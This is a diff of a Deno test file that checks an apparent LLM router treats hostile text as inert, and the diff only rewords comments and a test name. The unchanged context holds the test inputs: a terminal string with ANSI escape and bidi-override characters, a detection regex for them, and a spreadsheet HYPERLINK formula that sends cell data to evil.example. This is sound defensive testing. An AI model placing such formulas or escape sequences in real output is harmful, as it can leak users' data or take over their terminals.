@@ -1,4 +1,4 @@
-/** Text that means harm: to SQL, terminals, logs, spreadsheets, metrics, parsers. Prints a table. */
+/** Text that attacks SQL, terminals, logs, spreadsheets, metrics, parsers. Prints a table. */
 import assert from "node:assert/strict";
 import { Buffer } from "node:buffer";
 import zlib from "node:zlib";
@@ -22,7 +22,7 @@ const TERMINAL = "a\x1b[31m\x1b[2J\x1b]0;owned\x07\u009b31m\u202eb\r\n\u2028INFO
 const DRIVES_TERMINAL = /(?!\n)[\p{Cc}\p{Bidi_Control}\u2028\u2029\ufeff]/u;
 const FORMULA = `=HYPERLINK("http://evil.example/?x="&A1,"click")`;
 
-Deno.test("text that means harm is only text", async (t) => {
+Deno.test("hostile text is only text", async (t) => {
   const table = new FaultTable("hostile text", t);
   await using upstream = new FakeUpstream(chatReply("ok"));
   await using router = await Router.start({ upstreams: [{ endpoint: upstream.endpoint, name: "up" }] });
@@ -406,7 +406,7 @@ Deno.test("deep JSON and compressed bombs neither crash nor fill the router", as
   table.print();
 });
 
-/** The most memory that the process has had; 0 where there is no /proc. */
+/** Peak memory of the process; 0 without /proc. */
 function peakBytes(pid: number): number {
   try {
     const status = Deno.readTextFileSync(`/proc/${pid}/status`);
